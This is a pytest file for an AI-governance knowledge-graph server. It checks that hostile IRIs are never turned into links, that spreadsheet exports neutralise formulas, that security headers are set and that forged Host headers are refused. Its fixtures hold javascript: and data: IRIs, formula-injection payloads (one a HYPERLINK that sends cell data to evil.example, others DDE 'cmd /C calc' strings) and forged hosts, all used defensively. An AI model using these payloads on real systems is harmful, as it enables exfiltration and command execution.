"""Safe output: findings matched to AI systems by IRI, only http(s) links, spreadsheet cells that
cannot execute, security headers, and links that never echo a forged Host."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from aimsgraph import open_store
from aimsgraph.server import ServerSettings, create_app
from aimsgraph.validation import validate

from .conftest import LOCAL, ROOT

SYSTEM = "https://w3id.org/aimsgraph/org/acme-lending/system/"


@pytest.fixture(scope="module")
def lookalike(tmp_path_factory) -> Path:
    """The sample organization where one system's id and name are prefixes of another's, and
    that other's name has a comma."""
    folder = tmp_path_factory.mktemp("orgs") / "acme-lending"
    shutil.copytree(ROOT / "examples" / "acme-lending", folder)
    for path in folder.glob("*.csv"):
        text = re.sub(r"\bdoc-summarizer\b", "credit", path.read_text(encoding="utf-8"))
        text = text.replace("Internal document summarizer", "Credit")
        text = text.replace("Credit scoring model,", '"Credit scoring model, v4",')
        path.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def lookalike_store(lookalike):
    return open_store([lookalike])


@pytest.fixture(scope="module")
def lookalike_client(lookalike_store) -> TestClient:
    return TestClient(create_app(ServerSettings(), lookalike_store), base_url=LOCAL)


def test_the_lookalike_organization_is_what_the_tests_need(lookalike_store) -> None:
    names = {r["name"] for r in lookalike_store.query(
        "SELECT ?name WHERE { ?s a aims:AISystem ; rdfs:label ?name }").records()}
    assert {"Credit", "Credit scoring model, v4"} <= names


def test_rest_system_gaps_are_the_findings_about_that_system(lookalike_client,
                                                             lookalike_store) -> None:
    found = validate(lookalike_store)
    for key in ("credit", "credit-scoring"):
        body = lookalike_client.get(f"/systems/{key}").json()
        expected = sorted(f.message for f in found if SYSTEM + key in f.systems)
        assert sorted(g["message"] for g in body["gaps"]) == expected
        assert all(g["systems"] == [SYSTEM + key] for g in body["gaps"])
    scoring = lookalike_client.get("/systems/credit-scoring").json()["gaps"]
    assert any(g["severity"] == "Violation" for g in scoring)


def test_rest_system_gaps_on_the_sample(org_store) -> None:
    client = TestClient(create_app(ServerSettings(), org_store), base_url=LOCAL)
    found = validate(org_store)
    for system in client.get("/systems").json()["items"]:
        gaps = client.get(f"/systems/{system['id']}").json()["gaps"]
        assert len(gaps) == sum(system["iri"] in f.systems for f in found)


def test_web_system_page_lists_its_own_findings_only(lookalike_client) -> None:
    page = lookalike_client.get("/ui/systems/credit-scoring").text
    assert "No findings for this system" not in page
    assert "fundamental rights impact assessment" in page
    other = lookalike_client.get("/ui/systems/credit").text
    assert "fundamental rights impact assessment" not in other


def test_findings_link_to_every_system_they_concern(lookalike_client) -> None:
    page = lookalike_client.get("/ui/validation").text
    assert 'href="/ui/systems/credit-scoring#findings">Credit scoring model, v4</a>' in page


HOSTILE_IRIS = ("javascript:alert(document.domain)", "data:text/html;base64,PHNjcmlwdD4=",
                "JavaScript:alert(1)", "vbscript:msgbox(1)", "http:no-host")


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory) -> TestClient:
    """Provisions whose IRIs a browser would run, loaded as RDF beside the catalogs."""
    path = tmp_path_factory.mktemp("rdf") / "hostile.ttl"
    lines = ["@prefix aims: <https://w3id.org/aimsgraph/ontology#> .",
             "@prefix skos: <http://www.w3.org/2004/02/skos/core#> ."]
    for n, iri in enumerate(HOSTILE_IRIS):
        lines.append(f'<{iri}> a aims:Provision ; aims:inFramework '
                     f'<https://w3id.org/aimsgraph/std/iso-iec-42001/2023> ; '
                     f'skos:notation "Z.{n}" ; skos:prefLabel "hostile {n}" .')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return TestClient(create_app(ServerSettings(), open_store([path])), base_url=LOCAL)


@pytest.mark.parametrize("iri", HOSTILE_IRIS)
def test_only_http_iris_become_links(hostile_client, iri) -> None:
    from html import escape

    response = hostile_client.get("/ui/provision", params={"iri": iri})
    assert response.status_code == 200
    page = response.text
    assert f"<code>{escape(iri)}</code>" in page
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:", "vbscript:",
                                                            "http:no"))]


def test_a_catalog_provision_still_links_to_its_iri(client_sample) -> None:
    iri = "https://w3id.org/aimsgraph/std/iso-iec-42001/2023/annex-a/A.6.2.4"
    page = client_sample.get("/ui/provision", params={"iri": iri}).text
    assert f'<a href="{iri}" rel="external noopener noreferrer">' in page


def test_templates_autoescape_and_mark_nothing_safe_but_the_escaped_svg() -> None:
    from aimsgraph.server.web.templating import HERE, templates

    assert templates.env.autoescape is True
    marked = [(p.name, line.strip()) for p in (HERE / "templates").glob("*.html")
              for line in p.read_text(encoding="utf-8").splitlines() if "|safe" in line]
    assert sorted(marked) == [("provision.html", "{{ svg|safe }}"),
                              ("risks.html", '<div class="chart-scroll">{{ svg|safe }}</div>'),
                              ("soa.html", "{{ progress_svg|safe }}")]


@pytest.fixture(scope="module")
def client_sample(org_store) -> TestClient:
    return TestClient(create_app(ServerSettings(), org_store), base_url=LOCAL)


# -- spreadsheet exports -------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\uff1d1+1")


def test_cells_a_spreadsheet_would_run_are_prefixed_numbers_are_not() -> None:
    import csv
    import io

    from aimsgraph.spreadsheet import rows_csv

    rows = [{"text": f, "number": "-5"} for f in FORMULAS]
    read = list(csv.DictReader(io.StringIO(rows_csv(rows, ["text", "number"]))))
    assert [r["text"] for r in read] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert {r["number"] for r in read} == {"-5"}


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(tmp_path) -> None:
    from openpyxl import load_workbook

    from aimsgraph.spreadsheet import rows_xlsx

    rows = [{"text": f, "count": -5, "ratio": -0.25} for f in FORMULAS]
    path = tmp_path / "t.xlsx"
    with path.open("wb") as out:
        rows_xlsx(rows, out, "t")
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if c.column == 1 and c.row > 1]
    # XML reads a CR as LF
    assert [c.value for c in texts] == [f.replace("\r", "\n") for f in FORMULAS]
    assert all(c.quotePrefix for c in texts)
    assert {(c.value, c.data_type) for c in cells if c.column == 2 and c.row > 1} == {(-5, "n")}


@pytest.fixture(scope="module")
def hostile_org(tmp_path_factory) -> Path:
    """The sample organization with formulas in a justification and in a person's name."""
    import csv
    import io

    folder = tmp_path_factory.mktemp("hostile") / "acme-lending"
    shutil.copytree(ROOT / "examples" / "acme-lending", folder)
    for name, column, value in (("controls.csv", "justification", FORMULAS[0]),
                                ("people.csv", "name", FORMULAS[3])):
        path = folder / name
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        rows[0][column] = value
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")
    return folder


def assert_neutral_csv(text: str) -> None:
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULAS[0] in cells or "'" + FORMULAS[3] in cells
    from aimsgraph.spreadsheet import runs_as_formula

    assert not [c for c in cells if runs_as_formula(c)]


def assert_no_formula(path: Path) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {FORMULAS[0], FORMULAS[3]} & {c.value for c in cells}


def test_cli_exports_are_neutralized(hostile_org, tmp_path, capsys) -> None:
    from aimsgraph.cli import main

    args = ["--data", str(hostile_org)]
    assert main(["soa", *args, "--format", "xlsx", "-o", str(tmp_path / "soa.xlsx")]) == 0
    assert_no_formula(tmp_path / "soa.xlsx")
    assert main(["soa", *args, "--format", "csv", "-o", str(tmp_path / "soa.csv")]) == 0
    assert_neutral_csv((tmp_path / "soa.csv").read_text(encoding="utf-8"))
    assert main(["ims", *args, "--view", "soa", "--format", "xlsx",
                 "-o", str(tmp_path / "ims.xlsx")]) == 0
    assert_no_formula(tmp_path / "ims.xlsx")
    assert main(["ims", *args, "--view", "soa", "--format", "csv",
                 "-o", str(tmp_path / "ims.csv")]) == 0
    assert_neutral_csv((tmp_path / "ims.csv").read_text(encoding="utf-8"))
    assert main(["impact", *args, str(ROOT / "changes" / "eu-ai-act-digital-omnibus-2025.yaml"),
                 "--csv", str(tmp_path / "impact.csv")]) == 0
    assert_neutral_csv((tmp_path / "impact.csv").read_text(encoding="utf-8"))


def test_web_and_rest_downloads_are_neutralized(hostile_org, tmp_path) -> None:
    client = TestClient(create_app(ServerSettings(), open_store([hostile_org])), base_url=LOCAL)
    (tmp_path / "soa.xlsx").write_bytes(client.get("/ui/soa/download.xlsx").content)
    assert_no_formula(tmp_path / "soa.xlsx")
    assert_neutral_csv(client.get("/ui/soa/download.csv").text)
    assert_neutral_csv(client.get("/soa", headers={"Accept": "text/csv"}).text)


# -- security headers ----------------------------------------------------------------------------

PAGES = ("/", "/ui/systems", "/ui/systems/credit-scoring", "/ui/provisions/iso42001/A.6.2.4",
         "/ui/heatmap", "/ui/validation", "/ui/impact", "/ui/sparql", "/ui/soa",
         "/ui/coverage/aiact", "/ui/risks", "/ui/no-such-page")


@pytest.mark.parametrize("path", PAGES)
def test_pages_carry_a_strict_policy_and_need_nothing_inline(client_sample, path) -> None:
    response = client_sample.get(path)
    assert response.headers["content-type"].startswith("text/html")
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "style-src 'self';" in policy
    assert "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["referrer-policy"] == "same-origin"
    page = response.text
    assert not re.search(r"<script(?![^>]*\bsrc=)", page), "inline script"
    assert not re.search(r"\sstyle=|<style", page), "inline style"
    assert not re.search(r"\son[a-z]+=", page), "inline event handler"


@pytest.mark.parametrize("path", ["/systems", "/sparql?query=ASK%7B%7D", "/openapi.json",
                                  "/ui/static/aimsgraph.js", "/no-such-resource"])
def test_other_answers_may_load_nothing(client_sample, path) -> None:
    response = client_sample.get(path)
    assert response.headers["content-security-policy"] == \
        "default-src 'none'; frame-ancestors 'none'"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"


# -- Host ----------------------------------------------------------------------------------------

FORGED = ("evil.example", "evil.example:8000", "localhost:evil", "localhost@evil.example",
          "127.0.0.1.evil.example", "[::2]:80", "", "localhost:99999")


@pytest.mark.parametrize("host", FORGED)
def test_a_forged_host_is_refused_and_never_echoed(client_sample, host) -> None:
    for path in ("/systems", "/sparql", "/ui/systems"):
        response = client_sample.get(path, headers={"Host": host, "Accept": "text/turtle"})
        assert response.status_code == 400
        assert response.headers["content-type"] == "application/problem+json"
        assert "evil" not in response.text and (not host or host not in response.text)
        assert response.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1:80", "[::1]:8000",
                                  "LOCALHOST"])
def test_links_follow_an_allowed_host(client_sample, host) -> None:
    response = client_sample.get("/systems", headers={"Host": host})
    assert response.status_code == 200
    items = response.json()["items"]
    assert {s["href"] for s in items} == {f"http://{host}/systems/{s['id']}" for s in items}


def test_links_are_built_from_the_base_url(org_store) -> None:
    settings = ServerSettings(base_url="https://aims.example.org/graph")
    client = TestClient(create_app(settings, org_store), base_url="https://aims.example.org")
    systems = client.get("/systems").json()["items"]
    assert systems[0]["href"] == f"https://aims.example.org/graph/systems/{systems[0]['id']}"
    local = TestClient(create_app(settings, org_store), base_url=LOCAL)
    assert local.get("/systems").json()["items"][0]["href"].startswith("https://aims.example.org/graph/")
    description = local.get("/sparql", headers={"Accept": "text/turtle"}).text
    assert "<https://aims.example.org/graph/sparql>" in description
    assert 'href="/graph/ui/systems"' in local.get("/").text
    assert local.get("/systems", headers={"Host": "evil.example"}).status_code == 400


def test_a_base_url_that_is_not_http_is_a_usage_error(org_store) -> None:
    from aimsgraph.errors import UsageError

    with pytest.raises(UsageError, match="--base-url"):
        create_app(ServerSettings(base_url="javascript:alert(1)"), org_store)


def test_sparql_page_table_downloads_are_neutralized(hostile_org) -> None:
    """The SPARQL page's CSV/TSV downloads are spreadsheet tables: plain values, nothing runs."""
    client = TestClient(create_app(ServerSettings(), open_store([hostile_org])), base_url=LOCAL)
    query = ('SELECT ?label WHERE { ?s ?p ?label FILTER(isLiteral(?label) && '
             '(STRSTARTS(STR(?label), "=") || STRSTARTS(STR(?label), "@"))) }')
    as_csv = client.get("/ui/sparql/download", params={"query": query, "format": "csv"})
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert_neutral_csv(as_csv.text)
    as_tsv = client.get("/ui/sparql/download", params={"query": query, "format": "tsv"})
    cells = [c for row in csv.reader(io.StringIO(as_tsv.text), delimiter="\t") for c in row]
    from aimsgraph.spreadsheet import runs_as_formula

    assert cells[0] == "label" and not [c for c in cells if runs_as_formula(c)]
    assert {"'" + f for f in FORMULAS} & set(cells)
